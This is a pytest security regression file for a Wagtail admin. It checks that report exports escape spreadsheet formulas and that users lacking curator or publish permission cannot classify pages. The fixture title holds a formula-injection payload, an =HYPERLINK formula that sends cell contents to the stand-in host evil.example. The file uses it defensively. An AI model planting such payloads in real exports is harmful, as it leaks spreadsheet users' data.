"""Issue 21, items 4 and 7: the curation admin as the outside probe met it, over HTTP.

4. Wagtail's report exports wrote formulas. 7. A translator could classify (and so publish)
   resources.
"""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from wagtail.models import GroupPagePermission, Page

from tests.factories import ResourcePageFactory
from tests.security.curation_probe import signed_in

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


# --- item 4: no spreadsheet export of the admin runs a formula ------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ADMIN_EXPORTS = [
    "/admin/reports/workflow/",
    "/admin/reports/workflow_tasks/",
    "/admin/reports/site-history/",
    "/admin/reports/aging-pages/",
    "/admin/reports/locked/",
    "/admin/redirects/",
]


@pytest.fixture
def formula_everywhere(superuser):
    """A submitted title that is a formula, in every report: published (site history, aging
    pages), locked, in moderation (workflow and its tasks); and a redirect pointing to one."""
    from django.utils import timezone
    from wagtail.contrib.redirects.models import Redirect

    from community.submissions import default_workflow

    page = ResourcePageFactory(title=EVIL_TITLE)
    page.save_revision(user=superuser, log_action=True).publish(user=superuser)
    page.save_revision(user=superuser, log_action=True)
    (page.get_workflow() or default_workflow()).start(page, superuser)
    Page.objects.filter(pk=page.pk).update(
        locked=True, locked_by=superuser, locked_at=timezone.now()
    )
    Redirect.objects.create(old_path="/old-guide", redirect_link=EVIL_TITLE)
    return page


def csv_cells(response):
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


@pytest.mark.parametrize("lang", ["en", "ar"])
@pytest.mark.parametrize("url", ADMIN_EXPORTS)
def test_wagtails_own_exports_write_formulas_as_text(superuser, formula_everywhere, url, lang):
    client = signed_in(superuser, lang)
    for export_format, cells_of in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        response = client.get(url, {"export": export_format})
        assert response.status_code == 200, (url, export_format)
        cells = cells_of(response)
        assert "'" + EVIL_TITLE in cells, (url, export_format)
        running = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert not running, (url, export_format, running)


# --- item 7: Classify is the curators' tool, and it publishes ---------------------------------


def classify(client, page, region):
    return client.post(
        f"/admin/bulk/wagtailcore/page/classify/?id={page.pk}&next=/admin/resources/",
        {"field": "region", "operation": "set", "region": region},
    )


def grant_whole_tree(user, codenames, project_permission):
    group = Group.objects.create(name=f"{user.username} pages")
    group.permissions.add(
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"),
        Permission.objects.get(content_type__app_label="curation", codename=project_permission),
    )
    for codename in codenames:
        GroupPagePermission.objects.create(
            group=group,
            page=Page.get_first_root_node(),
            permission=Permission.objects.get(
                content_type__app_label="wagtailcore", codename=codename
            ),
        )
    user.groups.add(group)


@pytest.mark.parametrize("lang", ["en", "ar"])
def test_a_translator_who_may_publish_pages_cannot_classify(translator, bilingual, arabic, lang):
    # The probe's translator could edit and publish pages (as translators who publish their
    # translations can) but had no curators' permission.
    grant_whole_tree(
        translator, ["add_page", "change_page", "publish_page"], "use_translation_tools"
    )
    arabic_page = bilingual.get_translation(arabic)
    client = signed_in(translator, lang)

    refused = classify(client, arabic_page, "lb")
    assert refused.status_code == 302 and refused["Location"] == "/admin/"  # Wagtail's "denied"

    for page in (bilingual, arabic_page):
        page.refresh_from_db()
        assert page.regions == ["global"]
        assert page.latest_revision == page.live_revision  # no new revision either


@pytest.mark.parametrize(
    ("lang", "explanation"),
    [
        ("en", "you may not publish them and their translations"),
        ("ar", "لا يُسمح لك بنشرها هي وترجماتها"),
    ],
)
def test_a_curator_without_publish_permission_cannot_classify(bilingual, arabic, lang, explanation):
    # Wagtail's publish action refuses too (and rolls the change back); the curator learns it
    # before applying anything, and no draft revision is left either.
    curator = get_user_model().objects.create_user("editor", password="a long passphrase 42")
    grant_whole_tree(curator, ["add_page", "change_page"], "use_curation_tools")
    client = signed_in(curator, lang)

    page_html = client.get(
        f"/admin/bulk/wagtailcore/page/classify/?id={bilingual.pk}&next=/admin/resources/"
    ).content.decode()
    assert explanation in page_html
    classify(client, bilingual, "lb")

    for page in (bilingual, bilingual.get_translation(arabic)):
        page.refresh_from_db()
        assert page.regions == ["global"]
        assert page.latest_revision == page.live_revision
